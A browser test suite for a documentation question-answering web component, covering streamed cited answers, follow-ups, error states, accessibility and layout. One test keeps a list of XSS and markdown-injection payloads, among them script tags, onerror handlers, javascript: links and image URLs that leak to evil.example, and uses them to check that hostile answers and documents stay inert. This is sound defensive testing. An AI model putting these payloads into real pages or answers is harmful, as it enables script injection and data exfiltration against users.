// The field for questions in a real browser, under the strictest policy it promises to work with.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { after, before, beforeEach, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { answer, askServer, source } from './support/ask-server.mjs';
import { onSite, tireless } from './support/browser.mjs';
import { chatServer } from './support/chat.mjs';
import { start } from './support/runtimes.mjs';
import { STRICT_POLICY } from './support/server.mjs';

const here = (path) => fileURLToPath(new URL(path, import.meta.url));
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const sources = [
  source(1, 'Installing the tool', 'Clone the repository first. Then install the tool with one command. It checks what is missing.', {
    headings: ['From source', 'Linux'],
    anchor: 'linux',
  }),
  source(2, 'Smart pointers', 'A smart pointer owns an object and frees it.'),
  source(3, 'Elsewhere', 'Something else.'),
];
const plain = answer('Install the tool with one command [1]. Penguins live in Antarctica [2].', sources, { doubtful: [2] });

const browser = tireless();
let api;
before(async () => {
  api = await askServer();
});
beforeEach(() => {
  api.asked.length = 0;
  api.rated.length = 0;
  api.say(plain);
});
after(() => Promise.all([browser.close(), api.close()]));

/**
 * Opens a page with the element; no complaint may have come up after, but those a test expects.
 */
function onPage(work, { attributes = '', script = '', html = 'lang="en"', expects = [], ...options } = {}) {
  const site = {
    mounts: { '/coracle/': here('../../www/dist/') },
    pages: {
      '/index.html': `<!doctype html><html ${html}><head><title>Test page</title><meta name="viewport" content="width=device-width">
        <meta name="color-scheme" content="light dark"><script type="module" src="/coracle/coracle-ask.js"></script>
        <script type="module" src="/test.js"></script></head><body><main><h1>Test page</h1>
        <coracle-ask api="${api.api}" ${attributes}></coracle-ask></main></body></html>`,
      '/test.js': `globalThis.heard = [];
        for (const type of ['coracle-ask', 'coracle-answer', 'coracle-error', 'coracle-feedback', 'coracle-select'])
          addEventListener(type, ({ detail }) => heard.push({ type, ...detail, code: detail.code }), true);${script}`,
      '/guide/installing-the-tool/index.html': '<!doctype html><title>Installing</title>',
    },
    headers: { 'content-security-policy': STRICT_POLICY.replace("connect-src 'self'", "connect-src 'self' http://127.0.0.1:*") },
  };
  return onSite(browser, site, options, async (page, server, complaints) => {
    await page.waitForFunction(() => globalThis.heard && customElements.get('coracle-ask'));
    await work(page, server);
    const unexpected = complaints.filter((complaint) => !expects.some((expected) => expected.test(complaint)));
    assert.deepEqual(unexpected, []);
  });
}

const field = (page) => page.getByRole('textbox', { name: 'Ask a question' });
const state = (page, wanted) => page.waitForSelector(`coracle-ask[state=${wanted}]`);
const part = (page, name) => page.locator(`coracle-ask [part~=${name}]`);
const texts = (page, name) => part(page, name).allInnerTexts();
const focused = (page) => page.evaluate(() => document.activeElement?.shadowRoot?.activeElement?.getAttribute('part'));
async function ask(page, question, wanted = 'done') {
  await field(page).fill(question);
  await field(page).press('Enter');
  if (wanted) await state(page, wanted);
}

test('answer_comes_as_it_is_written_with_sources_and_citations', () =>
  onPage(async (page) => {
    const at = plain.findIndex(({ text }) => text === 'one ');
    api.say([...plain.slice(0, at), 'wait', ...plain.slice(at)]);
    await ask(page, 'How do I install it?', 'asking');
    await page.waitForFunction(() => document.querySelector('coracle-ask').shadowRoot.querySelector('[part=answer]')?.textContent === 'Install the tool with');
    assert.deepEqual(await texts(page, 'status'), ['Writing the answer']);
    assert.equal(await part(page, 'answer').getAttribute('aria-busy'), 'true');
    assert.equal(await part(page, 'source').count(), 3);
    await page.evaluate(() => (document.querySelector('coracle-ask').shadowRoot.querySelector('[part=source]').seen = true));
    api.go();
    await state(page, 'done');
    assert.deepEqual(await texts(page, 'question'), ['How do I install it?']);
    assert.deepEqual(await texts(page, 'answer'), ['Install the tool with one command 1. Penguins live in Antarctica 2?.']);
    assert.equal(await part(page, 'answer').getAttribute('aria-busy'), 'false');
    assert.ok(await part(page, 'status').isHidden());
    assert.deepEqual(await part(page, 'source').evaluateAll((rows) => rows.map((row) => row.getAttribute('part'))), ['source', 'source', 'source source-unused']);
    assert.match(await part(page, 'source-link').first().getAttribute('href'), /\/guide\/installing-the-tool\/#linux$/);
    const [{ url, accept, body }] = api.asked;
    assert.deepEqual([url, accept, body], ['/query', 'text/event-stream', { question: 'How do I install it?' }]);
    const heard = await page.evaluate(() => heard);
    assert.deepEqual(heard.map(({ type }) => type), ['coracle-ask', 'coracle-answer']);
    assert.deepEqual([heard[1].outcome, heard[1].citations.length, heard[1].sources.length], ['answered', 2, 3]);
  }));

test('citation_opens_its_passage_and_marks_what_the_sentence_rests_on', () =>
  onPage(async (page) => {
    await ask(page, 'How do I install it?');
    await page.getByRole('button', { name: 'Source 1: Installing the tool' }).press('Enter');
    assert.equal(await part(page, 'mark').innerText(), 'Then install the tool with one command.');
    assert.ok(await part(page, 'passage').first().isVisible());
    assert.equal(await focused(page), 'source-summary');
    await page.keyboard.press('Escape');
    assert.equal(await focused(page), 'citation');
    const doubtful = page.getByRole('button', { name: 'Source 2: Smart pointers, may not say this' });
    assert.equal(await doubtful.innerText(), '2?');
    assert.match((await texts(page, 'notice'))[0], /question mark, its source may not say/);
  }));

test('stop_ends_the_request_and_keeps_what_is_there', () =>
  onPage(async (page) => {
    const left = api.left();
    api.say([...plain.slice(0, 5), 'wait']);
    await ask(page, 'How?', 'asking');
    await page.waitForFunction(() => document.querySelector('coracle-ask').shadowRoot.querySelector('[part=answer]').textContent !== '');
    await page.getByRole('button', { name: 'Stop' }).click();
    await state(page, 'done');
    for (let tries = 0; tries < 40 && api.left() === left; tries += 1) await page.waitForTimeout(50);
    assert.equal(api.left(), left + 1);
    assert.match((await texts(page, 'answer'))[0], /^Install/);
    assert.deepEqual(await texts(page, 'notice'), ['Stopped.']);
    assert.ok(await page.getByRole('button', { name: 'Ask' }).isVisible());
    api.say(plain);
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.waitForFunction(() => heard.at(-1)?.outcome === 'answered');
    assert.equal(await part(page, 'turn').count(), 1);
  }));

test('follow_up_question_sends_what_was_said', () =>
  onPage(async (page) => {
    await ask(page, 'How do I install it?');
    assert.equal(await field(page).getAttribute('placeholder'), 'Ask a follow-up question');
    await ask(page, 'And on Linux?', null);
    await page.waitForFunction(() => heard.filter(({ type }) => type === 'coracle-answer').length === 2);
    assert.deepEqual(api.asked[1].body, {
      question: 'And on Linux?',
      history: [
        { role: 'user', content: 'How do I install it?' },
        { role: 'assistant', content: 'Install the tool with one command [1]. Penguins live in Antarctica [2].' },
      ],
    });
    const ids = await page.evaluate(() => [...document.querySelector('coracle-ask').shadowRoot.querySelectorAll('[id]')].map(({ id }) => id));
    assert.equal(new Set(ids).size, ids.length);
    api.say(answer('No.', [], { outcome: 'not-covered' }));
    await ask(page, 'And on Mars?', null);
    await page.waitForFunction(() => heard.at(-1).outcome === 'not-covered');
    await ask(page, 'And on Venus?', null);
    await page.waitForFunction(() => heard.filter(({ type }) => type === 'coracle-answer').length === 4);
    assert.deepEqual(api.asked[3].body.history.slice(4), [{ role: 'user', content: 'And on Mars?' }, { role: 'assistant', content: 'No.' }]);
    await page.getByRole('button', { name: 'New conversation' }).click();
    assert.equal(await part(page, 'turn').count(), 0);
    assert.equal(await focused(page), 'input');
    await ask(page, 'Anew?');
    assert.equal(api.asked[4].body.history, undefined);
  }));

for (const [outcome, expected] of [
  ['uncited', 'This answer names no sources. It may not come from the documents.'],
  ['extractive', 'These are sentences from the documents.'],
  ['not-covered', 'The documents do not answer this question.'],
  ['length', 'The answer is cut off: it reached the greatest length.'],
  ['refused', 'The model did not want to answer this.'],
]) {
  test(`outcome_${outcome}_is_said_in_plain_words`, () =>
    onPage(async (page) => {
      api.say(answer('Words of *the* service.', sources, { outcome }));
      await ask(page, 'How?');
      assert.deepEqual(await texts(page, 'notice'), [expected]);
      const shown = { 'not-covered': '', extractive: 'Words of *the* service.' }[outcome] ?? 'Words of the service.';
      assert.deepEqual(await texts(page, 'answer'), [shown]);
      assert.equal(await part(page, 'sources').isVisible(), outcome !== 'not-covered');
      assert.equal(await page.getByRole('button', { name: 'Try again' }).count(), outcome === 'refused' ? 1 : 0);
    }));
}

test('what_did_less_than_it_should_is_said', () =>
  onPage(async (page) => {
    api.say(answer('A sentence.', sources, { outcome: 'extractive', degraded: [['search', 'keyword-only'], ['chat', 'timeout'], ['rerank', 'timeout']] }));
    await ask(page, 'How?');
    const said = ['Searched by words only, not by meaning.', 'The model is not available now.', 'These are sentences from the documents.'];
    assert.deepEqual(await texts(page, 'notice'), [said.join('\n\n')]);
    api.say(answer('A sentence.', sources, { outcome: 'extractive', degraded: [['chat', 'budget']] }));
    await field(page).fill('Again?');
    await field(page).press('Enter');
    await page.getByText('The model has answered all it may today.').waitFor();
  }));

test('failures_are_said_and_retry_recovers', () =>
  onPage(
    async (page) => {
      const meets = async (fail, said, code) => {
        fail();
        await ask(page, 'How?', 'error');
        await part(page, 'notice-error').last().filter({ hasText: said }).waitFor();
        if (code) assert.equal(await page.evaluate(() => heard.at(-1).code), code);
        await page.getByRole('button', { name: 'New conversation' }).click();
      };
      await meets(() => api.refuse(503), 'The service is not available right now.', 'unavailable');
      await meets(() => api.refuse(403), 'This page may not ask questions here.', 'forbidden');
      await meets(() => api.refuse(400, { message: 'the filter names no field' }), 'the filter names no field', 'rejected');
      await meets(() => api.page(), 'The service is not available right now.', 'unavailable');
      await meets(() => api.say(['cut']), 'The service cannot be reached.', 'unreachable');
      await meets(() => api.say([]), 'The answer broke off.');
      await meets(() => api.say([...plain.slice(0, 5), 'cut']), 'The answer broke off.');
      await meets(() => api.say([...plain.slice(0, 5), { type: 'error', code: 'timeout', message: 'late' }, { type: 'done', outcome: 'broken' }]), 'The answer broke off.');
      await page.evaluate(() => document.querySelector('coracle-ask').setAttribute('api', 'http://127.0.0.1:9/query'));
      await ask(page, 'How?', 'error');
      api.say(plain);
      await page.evaluate((api) => document.querySelector('coracle-ask').setAttribute('api', api), api.api);
      await page.getByRole('button', { name: 'Try again' }).click();
      await state(page, 'done');
      assert.equal(await part(page, 'citation').count(), 2);
    },
    { expects: [/Failed to load resource/] },
  ));

test('offline_is_said', () =>
  onPage(
    async (page) => {
      await page.context().setOffline(true);
      await ask(page, 'How?', 'error');
      assert.deepEqual(await texts(page, 'notice'), ['You are offline.']);
    },
    { expects: [/Failed to load resource/] },
  ));

test('too_many_questions_may_be_asked_again_after_the_time_the_service_names', () =>
  onPage(
    async (page) => {
      api.refuse(429, { 'retry-after': '2' });
      await ask(page, 'How?', 'error');
      assert.deepEqual(await texts(page, 'notice'), ['You have asked many questions in a short time.']);
      api.say(plain);
      const button = part(page, 'retry');
      assert.match(await button.innerText(), /^Try again in [12] s$/);
      await button.click({ force: true });
      assert.equal(api.asked.length, 1);
      await page.getByRole('button', { name: 'Try again', exact: true }).click();
      await state(page, 'done');
      assert.equal(api.asked.length, 2);
    },
    { expects: [/Failed to load resource/] },
  ));

test('session_begins_when_the_service_wants_one_and_anew_when_it_is_over', async () => {
  api.begun.length = 0;
  try {
    await onPage(
      async (page) => {
        api.sessions('first');
        await page.evaluate(() => {
          let passed = 0;
          document.querySelector('coracle-ask').challenge = async (signal) => (signal.aborted ? '' : `passed-${++passed}`);
        });
        await ask(page, 'How?', 'done');
        await ask(page, 'Why?', 'done');
        assert.deepEqual(api.begun, [{ turnstile: 'passed-1' }]);
        api.sessions('second');
        await ask(page, 'When?', 'done');
        assert.deepEqual(api.begun.at(-1), { turnstile: 'passed-2' });
        assert.equal(api.asked.length, 3);

        // Whoever does not pass is told that they may not ask, and may try again.
        api.sessions('third');
        await page.evaluate(() => (document.querySelector('coracle-ask').challenge = () => 'failed'));
        await ask(page, 'Where?', 'error');
        assert.equal(await page.evaluate(() => heard.at(-1).code), 'forbidden');
        await page.evaluate(() => (document.querySelector('coracle-ask').challenge = () => Promise.reject(new Error('closed'))));
        await page.getByRole('button', { name: 'Try again' }).click();
        await page.waitForFunction(() => heard.filter(({ type }) => type === 'coracle-error').length === 2);
        assert.equal(await page.evaluate(() => heard.at(-1).code), 'forbidden');
        await page.evaluate(() => (document.querySelector('coracle-ask').challenge = undefined));
        await page.getByRole('button', { name: 'Try again' }).click();
        await state(page, 'done');
        assert.deepEqual(api.begun.at(-1), {});
      },
      { expects: [/Failed to load resource/] },
    );
  } finally {
    api.sessions();
  }
});

test('keyboard_alone_asks_reads_rates_and_begins_anew', () =>
  onPage(async (page) => {
    await page.keyboard.press('Tab');
    await page.keyboard.type('How?');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('Really?');
    assert.equal(await field(page).inputValue(), 'How?\nReally?');
    await page.keyboard.press('Enter');
    await state(page, 'done');
    assert.equal(await focused(page), 'input');
    assert.equal(await field(page).inputValue(), '');
    const way = [];
    for (let steps = 0; steps < 9; steps += 1) {
      await page.keyboard.press('Shift+Tab');
      way.unshift(await focused(page));
    }
    const all = ['citation citation-unsupported', 'source-summary', 'source-link', 'source-summary', 'source-link', 'source-summary', 'source-link', 'feedback', 'feedback'];
    assert.deepEqual(way, all);
    await page.getByRole('button', { name: 'Yes' }).press('Enter');
    await page.getByText('Thank you.').waitFor();
    assert.deepEqual(api.rated, [{ rating: 'up', request: 'request-1', url: new URL(page.url()).origin + '/' }]);
    assert.equal(await page.getByRole('button', { name: 'Yes' }).getAttribute('aria-pressed'), 'true');
    assert.equal(await page.evaluate(() => heard.at(-1).type), 'coracle-feedback');
  }));

test('progress_and_answer_are_spoken', () =>
  onPage(async (page) => {
    const spoken = (text) =>
      page.waitForFunction(
        (text) => [...document.querySelector('coracle-ask').shadowRoot.querySelectorAll('[aria-live]')].some((region) => region.textContent.includes(text)),
        text,
      );
    api.say([plain[0], 'wait', ...plain.slice(1)]);
    await ask(page, 'How?', 'asking');
    await spoken('Searching');
    api.go();
    await spoken('Answer with 2 sources: Install the tool with one command 1.');
    await spoken('its source may not say what the sentence says');
  }));

test('axe_finds_no_violation_in_any_state', () =>
  onPage(
    async (page) => {
      const violations = async () => {
        await page.evaluate(axe);
        const { violations } = await page.evaluate(() => axe.run());
        return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
      };
      assert.deepEqual(await violations(), []);
      const text = 'A [1].\n\n- x\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nPenguins fly over the pole [2].';
      api.say([...answer(text, sources, { doubtful: [2] }).slice(0, 4), 'wait', ...answer(text, sources, { doubtful: [2] }).slice(4)]);
      await ask(page, 'How?', 'asking');
      assert.deepEqual(await violations(), []);
      api.go();
      await state(page, 'done');
      await part(page, 'citation').first().click();
      assert.deepEqual(await violations(), []);
      await page.emulateMedia({ colorScheme: 'dark' });
      assert.deepEqual(await violations(), []);
      api.refuse(429, { 'retry-after': '30' });
      await ask(page, 'How?', 'error');
      assert.deepEqual(await violations(), []);
    },
    { expects: [/Failed to load resource/] },
  ));

/** What a model may be talked into, and what a document may bring along. */
const payloads = [
  '<img src=x onerror="document.title=\'owned\'">',
  '<script>document.title="owned"</script>',
  '<svg><animate onbegin=document.title="owned" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.document.title=1</script>">',
  '[click](javascript:document.title="owned")',
  '[click](JaVaScRiPt:document.title=`owned`//x.y)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![x](https://evil.example/x.png?leak=1)',
  '[x](https://evil.example/x?leak=1)',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '[1](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror="document.title=\'owned\'">\n```',
  '\uE000\uE001\uF8FF',
  '[x]: javascript:alert(1)\n\n[x]',
  '<a href="javascript:alert(1)">x</a>',
  '"><style>*{display:none}</style>',
  '{{constructor.constructor("alert(1)")()}}',
];

test('hostile_answers_and_documents_are_inert', () =>
  onPage(
    async (page, server) => {
      const html = payloads[0];
      const hostile = [
        source(1, html, `Hostile ${html} passage.`, { headings: [payloads[1]], id: html, url: 'javascript:document.title="owned"' }),
        source(2, 'Fine', 'Fine.', { anchor: '"><script>', url: '/fine/' }),
        source(3, 'Data', 'Data.', { url: 'data:text/html,<script>alert(1)</script>' }),
      ];
      const outside = [];
      page.on('request', (request) => {
        const { origin } = new URL(request.url());
        if (origin !== new URL(server.url).origin && origin !== api.origin) outside.push(request.url());
      });
      for (const outcome of ['answered', 'extractive']) {
        api.say(answer(`${payloads.join('\n\n')}\n\nHostile passage [1].`, hostile, { outcome, query: html }));
        await ask(page, html);
        await page.waitForFunction((outcome) => heard.at(-1)?.outcome === outcome, outcome);
        await page.getByRole('button', { name: 'Source 1' }).last().click();
      }
      const found = await page.evaluate(() => {
        const { shadowRoot } = document.querySelector('coracle-ask');
        const own = (node) => node.matches('[part~=source-icon], [part~=source-icon] *');
        const all = [...shadowRoot.querySelectorAll('*')].filter((node) => !own(node));
        return {
          names: all.map(({ localName }) => localName).filter((name) => /^(img|script|iframe|svg|style|object|embed|animate|link|base|meta)$/.test(name)),
          handlers: all.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'src')),
          links: [...shadowRoot.querySelectorAll('a')].map(({ href }) => href),
        };
      });
      assert.deepEqual(found.names, []);
      assert.deepEqual(found.handlers, []);
      assert.deepEqual([...new Set(found.links.map((href) => new URL(href).origin))], [new URL(server.url).origin]);
      assert.deepEqual(outside, []);
      assert.equal(await page.title(), 'Test page');
      const shown = (await texts(page, 'answer'))[0];
      assert.ok(shown.includes('<img src=x onerror='), 'what is no Markdown is shown as text');
      assert.ok(shown.includes('\uFFFD\uFFFD\uFFFD'));
    },
    { script: '' },
  ));

test('links_lead_to_sources_only_and_can_be_routed_by_the_page', () =>
  onPage(
    async (page) => {
      api.say(answer('See [the guide](/guide/installing-the-tool/#linux) or [others](https://example.org/a.html) [1].', sources));
      await ask(page, 'How?');
      assert.deepEqual(await texts(page, 'answer-link'), ['the guide']);
      await part(page, 'source-link').first().click();
      assert.equal(new URL(page.url()).pathname, '/');
      assert.equal(await page.evaluate(() => heard.at(-1).id), 'installing-the-tool');
    },
    { script: "addEventListener('coracle-select', (event) => event.preventDefault());" },
  ));

test('right_to_left_and_narrow_pages_are_not_overflowed', async () => {
  for (const html of ['lang="ar" dir="rtl"', 'lang="en"']) {
    await onPage(
      async (page) => {
        api.say(answer(`A [1].\n\n\`\`\`\n${'long '.repeat(60)}\n\`\`\`\n\n${'x'.repeat(300)}`, sources));
        const [question, send] = html.includes('ar') ? ['اطرح سؤالاً', 'اسأل'] : ['Ask a question', 'Ask'];
        const field = page.getByRole('textbox', { name: question, exact: true });
        await field.fill('كيف؟');
        await field.press('Enter');
        await state(page, 'done');
        const [width, wide] = await page.evaluate(() => [document.documentElement.clientWidth, document.documentElement.scrollWidth]);
        assert.equal(wide, width);
        const button = await page.getByRole('button', { name: send, exact: true }).boundingBox();
        const input = await field.boundingBox();
        assert.equal(button.x < input.x, html.includes('rtl'));
      },
      { html, viewport: { width: 360, height: 700 } },
    );
  }
});

test('reduced_motion_stops_what_moves', () =>
  onPage(
    async (page) => {
      api.say([plain[0], 'wait', ...plain.slice(1)]);
      await ask(page, 'How?', 'asking');
      const moving = () => page.evaluate(() => document.querySelector('coracle-ask').shadowRoot.getAnimations().filter(({ playState }) => playState === 'running').length);
      assert.equal(await moving(), 0);
      await page.emulateMedia({ reducedMotion: 'no-preference' });
      assert.equal(await moving(), 1);
      api.go();
      await state(page, 'done');
    },
    { reducedMotion: 'reduce' },
  ));

test('strings_can_be_replaced_in_part', () =>
  onPage(async (page) => {
    await page.evaluate(() => (document.querySelector('coracle-ask').strings = { ask: 'Fragen', outcomes: { uncited: 'Ohne Quellen.' } }));
    assert.ok(await page.getByRole('button', { name: 'Fragen' }).isVisible());
    api.say(answer('Words.', sources, { outcome: 'uncited' }));
    await ask(page, 'Wie?');
    assert.deepEqual(await texts(page, 'notice'), ['Ohne Quellen.']);
  }));

test('element_that_is_removed_asks_no_further', () =>
  onPage(async (page) => {
    const left = api.left();
    api.say([...plain.slice(0, 5), 'wait']);
    await ask(page, 'How?', 'asking');
    await page.waitForFunction(() => document.querySelector('coracle-ask').shadowRoot.querySelector('[part=answer]').textContent !== '');
    await page.evaluate(() => document.querySelector('coracle-ask').remove());
    for (let tries = 0; tries < 40 && api.left() === left; tries += 1) await page.waitForTimeout(50);
    assert.equal(api.left(), left + 1);
  }));

test('real_service_answers_a_page_of_an_allowed_origin', async () => {
  const chat = await chatServer();
  let service;
  try {
    await onPage(async (page, server) => {
      const settings = { ...chat.settings, ALLOW_ORIGIN: new URL(server.url).origin, CACHE_SECONDS: '0', ANSWER_HOPS: '0' };
      service = await start('node', settings);
      await page.evaluate((api) => document.querySelector('coracle-ask').setAttribute('api', api), `${service.url}/query`);
      await ask(page, 'Which keys does the search field understand?');
      assert.match((await texts(page, 'answer'))[0], /\w 1\.$/);
      assert.equal(await part(page, 'notice').isVisible(), false);
      assert.ok((await part(page, 'source').count()) > 1);
      await part(page, 'citation').press('Enter');
      assert.ok((await part(page, 'mark').innerText()).length > 10);
      assert.match(await part(page, 'source-link').first().getAttribute('href'), /\/docs\//);

      await page.getByRole('button', { name: 'No' }).click();
      await page.getByText('Thank you.').waitFor();
      assert.match(service.log(), /"event":"feedback".*"rating":"down"/);
      const { request } = JSON.parse(service.log().split('\n').find((line) => line.includes('"feedback"'))).feedback;
      assert.ok(service.log().split('\n').some((line) => line.includes(request) && line.includes('/query')));

      chat.be('slow');
      const left = chat.left();
      await ask(page, 'And which key closes the list?', 'asking');
      await page.waitForFunction(() => [...document.querySelector('coracle-ask').shadowRoot.querySelectorAll('[part=answer]')].at(-1).textContent !== '');
      await page.getByRole('button', { name: 'Stop' }).click();
      for (let tries = 0; tries < 60 && chat.left() === left; tries += 1) await page.waitForTimeout(50);
      assert.equal(chat.left(), left + 1, 'the model is told that nobody waits');

      chat.be('refuse', { status: 401 });
      await page.getByRole('button', { name: 'Try again' }).click();
      await page.waitForFunction(() => heard.at(-1)?.outcome === 'extractive');
      assert.match((await texts(page, 'notice')).at(-1), /The model is not available now\.\s+These are sentences from the documents\./);
      assert.ok((await part(page, 'citation').count()) > 1);
    });
  } finally {
    await service?.stop();
    await chat.close();
  }
});
